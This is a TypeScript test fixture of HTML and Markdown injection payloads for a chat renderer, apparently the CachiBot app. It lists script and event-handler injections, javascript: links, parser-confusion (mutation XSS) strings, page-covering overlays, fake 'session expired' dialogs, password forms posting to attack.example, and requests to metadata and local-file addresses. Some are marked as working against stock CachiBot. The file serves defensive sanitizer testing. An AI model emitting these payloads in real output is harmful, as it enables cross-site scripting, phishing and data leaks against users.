/**
 * Texts that try to act from inside a message: to style, cover or navigate the page, to request, to take the focus, or
 * to crash. Each is Markdown, as a model could write it. Addresses contain `attack`, so that a test can see requests.
 */

/** Elements that a message never makes. */
const ELEMENTS = [
  '<meta http-equiv="refresh" content="0;url=https://attack.example/">',
  '<meta http-equiv="refresh" content="0;url=/api/attack">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta name="referrer" content="unsafe-url">',
  '<meta name="viewport" content="width=1">',
  '<link rel="stylesheet" href="data:text/css,*{display:none}">',
  '<link rel="stylesheet" href="/api/attack.css">',
  '<link rel="dns-prefetch" href="https://attack.example/">',
  '<link rel="preconnect" href="https://attack.example/">',
  '<link rel="preload" as="image" href="/api/attack">',
  '<link rel="prefetch" href="/api/attack">',
  '<link rel="modulepreload" href="/api/attack.js">',
  '<link rel="manifest" href="/api/attack.json">',
  '<link rel="icon" href="/api/attack.ico">',
  '<link rel="stylesheet" precedence="high" href="/api/attack.css">',
  '<base href="https://attack.example/">',
  '<base target="_top">',
  '<title>attack</title>',
  '<style>*{visibility:hidden!important}</style>',
  '<style>body{transform:rotate(180deg)}</style>',
  '<style>@import url(/api/attack.css);</style>',
  '<style>@font-face{font-family:x;src:url(/api/attack)}*{font-family:x}</style>',
  '<style href="attack" precedence="high">*{display:none!important}</style>',
  '<script>document.title="attack"</script>',
  '<script src="/api/attack.js"></script>',
  '<script async src="https://attack.example/x.js"></script>',
  '<script type="module">import("/api/attack.js")</script>',
  '<noscript><style>*{display:none}</style></noscript>',
  '<template><style>*{display:none}</style></template>',
  '<template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style></template>',
  '<iframe src="/api/attack"></iframe>',
  '<iframe src="https://attack.example/"></iframe>',
  '<iframe srcdoc="<script>top.document.title=1</script>"></iframe>',
  '<iframe src="javascript:top.document.title=1"></iframe>',
  '<iframe name="attack"></iframe><a href="/api/attack" target="attack">x</a>',
  '<frameset><frame src="/api/attack"></frameset>',
  '<object data="/api/attack"></object>',
  '<object data="data:text/html,<script>1</script>" type="text/html"></object>',
  '<embed src="/api/attack">',
  '<applet code="attack"></applet>',
  '<portal src="/api/attack"></portal>',
  '<fencedframe></fencedframe>',
  '<form action="/api/attack" method="post"><button>Log In</button></form>',
  '<form action="https://attack.example/"><input name="password" type="password"></form>',
  '<form id="attack"></form><button form="attack" formaction="/api/attack">x</button>',
  '<button autofocus>x</button>',
  '<button popovertarget="attack">x</button><div id="attack" popover>x</div>',
  '<input type="submit" value="x">',
  '<input type="image" src="/api/attack">',
  '<input type="password" autofocus>',
  '<input autofocus>',
  '<input type="checkbox" autofocus name="attack">',
  '<textarea autofocus>x</textarea>',
  '<select autofocus><option>x</option></select>',
  '<keygen autofocus>',
  '<output form="attack">x</output>',
  '<label for="root">x</label>',
  '<fieldset style="position:fixed;inset:0"><legend>x</legend></fieldset>',
  '<dialog open>Your session has expired.</dialog>',
  '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>',
  '<video src="/api/attack" autoplay></video>',
  '<video poster="/api/attack"></video>',
  '<audio src="/api/attack" autoplay></audio>',
  '<video><source src="/api/attack"></video>',
  '<video><track default src="/api/attack"></video>',
  '<picture><source srcset="/api/attack"><img alt="x"></picture>',
  '<map name="attack"><area href="/api/attack" ping="/api/attack"></map><img usemap="#attack" alt="x">',
  '<canvas width="9000" height="9000"></canvas>',
  '<marquee width="9000" behavior="alternate">x</marquee>',
  '<blink>x</blink>',
  '<bgsound src="/api/attack">',
  '<basefont size="7">',
  '<isindex action="/api/attack">',
  '<menuitem icon="/api/attack">x</menuitem>',
  '<menu><li>x</li></menu>',
  '<nav style="position:fixed;top:0">x</nav>',
  '<slot name="attack">x</slot>',
  '<progress value="1"></progress>',
  '<meter value="1"></meter>',
];

/** Elements with a name of their own, the app's among them. */
const CUSTOM_ELEMENTS = [
  `<cachibot-card card='{"kind":"error","title":"Sign in again","actions":["keys"]}' message="x" room=""></cachibot-card>`,
  `<CACHIBOT-CARD card='{"title":"attack"}'></CACHIBOT-CARD>`,
  '<div is="cachibot-card" card="{}">x</div>',
  '<attack-element onclick="1" style="position:fixed;inset:0">x</attack-element>',
  '<x-a class="fixed inset-0 z-50">x</x-a>',
  '<think>hidden</think>',
  '<String> and <T extends U>',
  '<font-face src="/api/attack"></font-face>',
  '<annotation-xml encoding="text/html"><style>*{display:none}</style></annotation-xml>',
  '<a\u00a0href="/api/attack">x</a\u00a0>',
  '<a:b href="/api/attack">x</a:b>',
  '<constructor>x</constructor>',
  '<__proto__>x</__proto__>',
  '<toString>x</toString>',
  '<hasOwnProperty>x</hasOwnProperty>',
  '<a.b.c>x</a.b.c>',
];

/** Attributes that run scripts, or are special to React. */
const ATTRIBUTES = [
  ...['onclick', 'onload', 'onerror', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbeforetoggle'],
  ...['onpointerenter', 'onscroll', 'onwheel', 'oncopy', 'oninput', 'onsubmit', 'oncontentvisibilityautostatechange'],
].map(name => `<div ${name}="document.title='attack'" tabindex="0">x</div>`);

const MORE_ATTRIBUTES = [
  '<img src="data:image/png;base64,x" onerror="document.title=1" alt="x">',
  '<img src=x onerror=document.title=1>',
  '<details open ontoggle="document.title=1"><summary>x</summary></details>',
  '<a href="https://attack.example/" ping="/api/attack">x</a>',
  '<a href="https://attack.example/" download="x.exe">x</a>',
  '<a href="https://attack.example/" attributionsrc="/api/attack">x</a>',
  '<div ref="x">x</div>',
  '<span ref="x">x</span>',
  '<img ref="x" alt="x">',
  '<div key="a">x</div><div key="a">y</div>',
  '<div children="x">y</div>',
  '<div dangerouslysetinnerhtml="{__html:1}">x</div>',
  '<div innerhtml="<style>*{display:none}</style>">x</div>',
  '<div suppresshydrationwarning defaultvalue="x">x</div>',
  '<div style="a">x</div>',
  '<div style="{">x</div>',
  '<div autofocus tabindex="-1">x</div>',
  '<span contenteditable autofocus>x</span>',
  '<div tabindex="1">x</div>',
  '<div accesskey="s">x</div>',
  '<div popover="auto">x</div>',
  '<div inert>x</div>',
  '<div hidden="until-found">x</div>',
  '<div draggable="true">x</div>',
  '<div contextmenu="attack">x</div>',
  '<div slot="attack">x</div>',
  '<div part="attack" exportparts="attack">x</div>',
  '<div itemscope itemid="/api/attack">x</div>',
  '<div role="alertdialog" aria-modal="true">x</div>',
  '<div aria-hidden="true">x</div>',
  '<div nonce="attack">x</div>',
  '<div xmlns="http://www.w3.org/2000/svg">x</div>',
  '<div background="/api/attack">x</div>',
  '<table background="/api/attack"><tr><td background="/api/attack">x</td></tr></table>',
  '<blockquote cite="/api/attack">x</blockquote>',
  '<div lang="x" dir="rtl">x</div>',
  '<span data-attack="x">x</span>',
  '<p hidden>x</p>',
  '<img src="x" lowsrc="/api/attack" dynsrc="/api/attack" longdesc="/api/attack" alt="x">',
  '<img crossorigin="use-credentials" src="https://attack.example/x" alt="x">',
  '<img fetchpriority="high" loading="eager" src="/api/attack" alt="x">',
];

/** Styles, classes and sizes that reach beyond the message. */
const LAYOUT = [
  ...['position:fixed;inset:0', 'position:absolute;top:-500px;left:-500px', 'position:sticky;top:0', 'margin:-900px'],
  ...['margin-top:-9000px', 'transform:scale(90)', 'transform:translate(-50vw,-50vh)', 'width:9000px;height:9000px'],
  ...[
    'z-index:2147483647;position:relative;top:-200px',
    'float:left;margin-left:-400px',
    'box-shadow:0 0 0 9000px red',
  ],
  ...['outline:9000px solid red', 'filter:drop-shadow(0 -300px red)', 'text-indent:-900px', 'zoom:50'],
  ...['background:url(/api/attack)', 'background-image:url(https://attack.example/)', 'cursor:url(/api/attack),auto'],
  ...[
    'list-style:url(/api/attack)',
    'border-image:url(/api/attack)',
    'content:url(/api/attack)',
    'mask:url(/api/attack)',
  ],
  ...[
    'font-size:9000px',
    'line-height:9000px',
    'letter-spacing:900px',
    '--accent-600:red',
    'display:none',
    'rotate:45deg',
  ],
  ...['animation:spin 1s infinite', 'view-transition-name:root', 'anchor-name:--a', 'column-count:900', 'all:revert'],
].map(style => `<div style="${style}">x</div>`);

const MORE_LAYOUT = [
  ...['fixed inset-0 z-50', 'absolute -top-40', 'chat-lightbox', 'modal', 'sr-only', 'w-screen h-screen', 'hidden'],
  ...[
    'chat-messages',
    'artifact-image__fullscreen',
    'cachibot-card__action',
    'animate-spin',
    'language-js fixed inset-0',
  ],
].map(name => `<div class="${name}">x</div>`);

const SIZES = [
  '<span class="fixed inset-0">x</span>',
  '<code class="language-js fixed inset-0">x</code>',
  '<section class="footnotes fixed inset-0" data-footnotes>x</section>',
  '<pre class="fixed inset-0">x</pre>',
  '<sup class="fixed inset-0">x</sup>',
  '<img width="99999" height="99999" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="x">',
  '<img width="-1" height="1e9" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="x">',
  '<img hspace="9000" vspace="9000" border="9000" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="x">',
  '<img align="left" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="x">',
  '<table width="9000" border="900" cellpadding="900" cellspacing="900"><tr><td>x</td></tr></table>',
  '<table><tr><td width="9000" height="9000" nowrap>x</td></tr></table>',
  '<table><tr><td rowspan="60000" colspan="1000">x</td></tr></table>',
  '<table align="left"><tr><td>x</td></tr></table>',
  '<hr width="9000" size="9000" noshade>',
  '<font size="+99" color="red">x</font>',
  '<font color="url(/api/attack)">x</font>',
  '<pre width="9000">x</pre>',
  '<ol start="-2147483648" reversed><li value="2147483647">x</li></ol>',
  `<p>${'x'.repeat(3_000)}</p>`,
  `${'W'.repeat(2_000)}`,
  `x${'\u0301'.repeat(300)}`,
  `${'\u202e'}txet desrever`,
  `${'<b>'.repeat(200)}x`,
  `${'> '.repeat(60)}x`,
  `${'- '.repeat(40)}x`,
  `${'<sup>'.repeat(60)}x`,
];

/** Addresses of links. No test clicks them; none may act by being shown. */
const LINKS = [
  ...['javascript:document.title=1', 'JaVaScRiPt:document.title=1', 'java&#10;script:document.title=1'],
  ...[
    '&#1;javascript:document.title=1',
    ' javascript:document.title=1',
    'vbscript:x',
    'data:text/html,<script>1</script>',
  ],
  ...[
    'DATA:text/html,x',
    'blob:http://127.0.0.1:5870/x',
    'file:///etc/passwd',
    'app://shell/failure.html',
    'about:blank',
  ],
  ...[
    'view-source:https://attack.example/',
    'chrome://settings',
    'filesystem:http://127.0.0.1/x',
    'ms-settings:',
    'smb://a/b',
  ],
  ...[
    'intent://attack#Intent;end',
    'tel:123',
    'sms:123',
    'x-apple.systempreferences:',
    'search-ms:query=x',
    'ftp://attack.example',
  ],
].map(address => `<a href="${address}">x</a>`);

const MORE_LINKS = [
  '[x](javascript:document.title=1)',
  '[x](<javascript:document.title=1>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]: javascript:document.title=1\n\n[x]',
  '<javascript:document.title=1>',
  '![x](javascript:document.title=1)',
  '<a href="https://attack.example/" target="_top">x</a>',
  '<a href="https://attack.example/" target="_self" rel="opener">x</a>',
  '<a href="#root" autofocus>x</a>',
  '<a name="root" href="#root">x</a>',
  '<a xlink:href="javascript:1">x</a>',
  '<a href>x</a>',
  '<a href="//attack.example/">x</a>',
  '<a href="\\\\attack.example/">x</a>',
  '<a href="https://user:pass@attack.example/">x</a>',
];

/** Pictures and other resources that would be requested. */
const PICTURES = [
  ...[
    '/api/attack',
    'api/attack',
    './attack',
    '?attack',
    '//127.0.0.1:5870/api/attack',
    'http://127.0.0.1:5870/api/attack',
  ],
  ...['HTTP://127.0.0.1:5870/api/attack', '\\api\\attack', 'http:/api/attack', 'https://attack.example/x.png'],
  ...['http://localhost:5870/api/attack', 'http://169.254.169.254/attack', 'blob:http://127.0.0.1:5870/attack'],
  ...[
    'filesystem:http://127.0.0.1:5870/attack',
    'ws://127.0.0.1:5870/ws?attack',
    'app://shell/attack',
    'file:///attack',
  ],
  ...['data:text/html,<script>1</script>', 'data:application/attack,x', 'javascript:document.title=1', 'http://['],
].map(address => `<img src="${address}" alt="x">`);

const MORE_PICTURES = [
  '![x](/api/attack)',
  '![x](http://127.0.0.1:5870/api/auth/attack)',
  '![x](https://attack.example/x.png)',
  '[![x](/api/attack)](https://attack.example/)',
  '![x]\n\n[x]: /api/attack',
  '<img srcset="/api/attack 1x, /api/attack 2x" alt="x">',
  '<img src="data:image/png,x" srcset="/api/attack" sizes="100vw" alt="x">',
  `<img alt="x" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>">`,
  `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='/api/attack'/%3E%3C/svg%3E)`,
  '![x](data:audio/wav;base64,UklGRg==)',
  '![x](data:audio/attack&quot;onerror=1;base64,x)',
  '<image src="/api/attack">',
];

/** Ids and names that would replace elements and variables of the page. */
const IDS = [
  ...[
    'root',
    'cachibotDesktop',
    'msg-1',
    'user-content-x',
    '__proto__',
    'fetch',
    'document',
    'title',
    'body',
    'constructor',
  ],
].map(id => `<div id="${id}">x</div>`);

const NAMES = [
  '<img name="body" alt="x">',
  '<img name="getElementById" alt="x">',
  '<form name="cachibotDesktop"><input name="showChat"></form>',
  '<a name="cachibotDesktop">x</a><a name="cachibotDesktop">y</a>',
  '<object name="cachibotDesktop"></object>',
  '<embed name="cachibotDesktop">',
  '<iframe name="cachibotDesktop"></iframe>',
  '<output id="root">x</output>',
  '<section id="root" class="footnotes">x</section>',
  'A note.[^root]\n\n[^root]: x',
];

/** SVG and MathML, whose parsers have rules of their own. */
const FOREIGN = [
  '<svg onload="document.title=1"></svg>',
  '<svg><script>document.title=1</script></svg>',
  '<svg><style>*{display:none!important}</style></svg>',
  '<svg width="9000" height="9000" style="position:fixed;inset:0"><rect width="9000" height="9000"/></svg>',
  '<svg><use href="/api/attack#x"/></svg>',
  '<svg><image href="/api/attack"/></svg>',
  '<svg><feImage href="/api/attack"/></svg>',
  '<svg><a href="javascript:document.title=1"><text>x</text></a></svg>',
  '<svg><a><animate attributeName="href" values="javascript:1"/></a></svg>',
  '<svg><set attributeName="onclick" to="document.title=1"/></svg>',
  '<svg><foreignObject><iframe src="/api/attack"></iframe></foreignObject></svg>',
  '<svg><foreignObject><style>*{display:none}</style></foreignObject></svg>',
  '<svg><desc><style>*{display:none}</style></desc></svg>',
  '<svg><title><style>*{display:none}</style></title></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=document.title=1>">',
  '<svg><p><style><!--</style><img src="/api/attack">--></style></svg>',
  '<math><mtext><style>*{display:none}</style></mtext></math>',
  '<math><mi href="javascript:document.title=1">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><script>1</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img src="/api/attack" title="--&gt;"></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline#https://attack.example/">x</maction></math>',
];

/** Texts that the Markdown parser and the HTML parser read in different ways. */
const PARSERS = [
  '<<script>document.title=1</script>',
  '<scr<script>ipt>document.title=1</script>',
  '<script\u0000>document.title=1</script>',
  '<script/src="/api/attack"></script>',
  '<style/>*{display:none}</style>',
  '<STYLE>*{display:none}</STYLE>',
  '<style\n>*{display:none}</style\n>',
  '<div title="<style>*{display:none}</style>">x</div>',
  '<div title="><style>*{display:none}</style>">x</div>',
  `<div title='"><style>*{display:none}</style>'>x</div>`,
  '<div <style>*{display:none}</style>>x</div>',
  '<a href="x" <iframe src="/api/attack"></iframe>>x</a>',
  '<!-- --><style>*{display:none}</style>',
  '<!--><style>*{display:none}</style>-->',
  '<!-- --!><style>*{display:none}</style>',
  '<!-- <style>*{display:none}</style> -->',
  '<![CDATA[<style>*{display:none}</style>]]>',
  '<!doctype html><style>*{display:none}</style>',
  '<?xml version="1.0"?><style>*{display:none}</style>',
  '<!attack <style>*{display:none}</style>>',
  '</div></div></div></div></div></main></body></html>x',
  '</p></td></tr></table><style>*{display:none}</style>',
  '<table><style>*{display:none}</style><tr><td>x</td></tr></table>',
  '<table><iframe src="/api/attack"></iframe></table>',
  '<table><caption><style>*{display:none}</style></caption></table>',
  '<table><colgroup><template><style>*{display:none}</style></template></colgroup></table>',
  '<select><style>*{display:none}</style></select>',
  '<p><form><form><iframe src="/api/attack"></iframe></form></form></p>',
  '<b><p><b><style>*{display:none}</style></b></p></b>',
  '<a><div><a><div><style>*{display:none}</style></div></a></div></a>',
  '<html><head><style>*{display:none}</style></head><body onload="1" class="fixed">x</body></html>',
  '<body style="display:none" bgcolor="red" background="/api/attack">',
  '<html class="fixed" style="display:none">',
  '**<style>**{display:none}</style>',
  '`<style>*{display:none}</style>`',
  '```html\n<style>*{display:none}</style>\n```',
  '```js fixed inset-0\nx\n```',
  '```"><style>*{display:none}</style>\nx\n```',
  '~~~<iframe>\n<iframe src="/api/attack"></iframe>\n~~~',
  '    <style>*{display:none}</style>',
  '| a | b |\n|---|---|\n| <style>*{display:none}</style> | <iframe src="/api/attack"></iframe> |',
  '- [x] <style>*{display:none}</style>',
  '[<style>*{display:none}</style>](https://attack.example/)',
  '[x](https://attack.example/ "<style>*{display:none}</style>")',
  '[x](https://attack.example/ "\\"><style>*{display:none}</style>")',
  '![<style>*{display:none}</style>](data:image/png;base64,x)',
  '[^<style>]: x',
  '# <style>*{display:none}</style>',
  '&lt;style&gt;*{display:none}&lt;/style&gt;',
  '&#60;style&#62;*{display:none}&#60;/style&#62;',
  '\\<style>*{display:none}</style>',
  '<https://attack.example/<style>>',
  '<div>\n\n<style>*{display:none}</style>\n\n</div>',
  '<div\n\ntitle="x"><style>*{display:none}</style></div>',
  '<details><summary>x</summary>\n\n<iframe src="/api/attack"></iframe>\n\n</details>',
];

/** Texts that never end what they begin, so that the rest of a message belongs to it. */
const UNFINISHED = [
  '<style>*{display:none!important}',
  '<script>document.title=1',
  '<textarea autofocus>',
  '<title>attack',
  '<xmp><style>*{display:none}',
  '<plaintext><style>*{display:none}',
  '<noembed><style>*{display:none}',
  '<iframe src="/api/attack">',
  '<!-- <style>*{display:none}',
  '<svg><style>*{display:none}',
  '<select><option>',
  '<div style="position:fixed;inset:0',
  '<img src="/api/attack',
  '<a href="https://attack.example/',
  '```html\n<style>*{display:none}</style>',
  '<table><tr><td>',
  '<details open>',
  '<div title="',
];

/** All texts; each is a message of its own. */
export const PAYLOADS: readonly string[] = [
  ...[ELEMENTS, CUSTOM_ELEMENTS, ATTRIBUTES, MORE_ATTRIBUTES, LAYOUT, MORE_LAYOUT, SIZES, LINKS, MORE_LINKS],
  ...[PICTURES, MORE_PICTURES, IDS, NAMES, FOREIGN, PARSERS, UNFINISHED],
].flat();

/** Texts that can stand in one message, one after another, without changing how the next is read. */
export const FINISHED: readonly string[] = PAYLOADS.filter(
  text => !UNFINISHED.includes(text) && !text.includes('<!--') && !text.includes('\u0000'),
);

/** Attacks that change the page of stock CachiBot, and let it live. */
export const SEEN_IN_STOCK: readonly string[] = [
  '<style>*{visibility:hidden!important}</style>',
  '<div class="fixed inset-0 z-50">x</div>',
  '<dialog open>Your session has expired.</dialog>',
  '<div id="cachibotAttack">x</div>',
  '<input type="password" autofocus>',
  `<cachibot-card card='{"kind":"error","title":"Sign in again","actions":["keys"]}' message="x" room=""></cachibot-card>`,
];

/** Covers the window where nothing keeps a message's layout inside of it. */
export const COVERING = '<div style="position:fixed;inset:0;z-index:99;background:red">x</div>';

/** A picture that the page of stock CachiBot requests from the server. */
export const REQUESTED_IN_STOCK = '<img src="/api/attack" alt="x">';

/** SVG of a plug-in, which the page of stock CachiBot draws as its own elements. */
export const SVG_PAYLOAD = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40">
  <style>body, body * { visibility: hidden !important }</style>
  <rect id="root" class="fixed inset-0" width="40" height="40" fill="teal" style="position:fixed;inset:0"/>
  <image href="/api/attack" width="10" height="10"/>
</svg>`;

/** Ordinary Markdown, which looks as it does in stock CachiBot. */
export const ORDINARY = `# Heading
## Second *level*

A paragraph with **bold**, *italic*, ~~deleted~~, \`code\`, [a link](https://a.example/?x=1&y=2 "title"), <b>HTML</b>,
<kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <mark>marked</mark>, a line<br>break, and https://b.example/.

1. first
2. second
   - inner
   - [x] done
   - [ ] to do

| left | center | right |
|:-----|:------:|------:|
| 1    | \`2\`    | **3** |

\`\`\`python
print("<b>not bold</b>")
\`\`\`

    indented code

1. number 1
2. number 2
3. number 3
4. number 4
5. number 5
6. number 6
7. number 7
8. number 8
9. number 9
10. number 10
11. number 11
12. number 12

> A quotation
> - with a list

![a picture](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)
![a sound](data:audio/wav;base64,UklGRg==)

<details><summary>More</summary>

Hidden **text**, 1 < 2 && 3 > 2.

</details>

<div align="center" id="user-content-x"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="20" alt="x"></div>

A note.[^1]

---

[^1]: The note.
`;
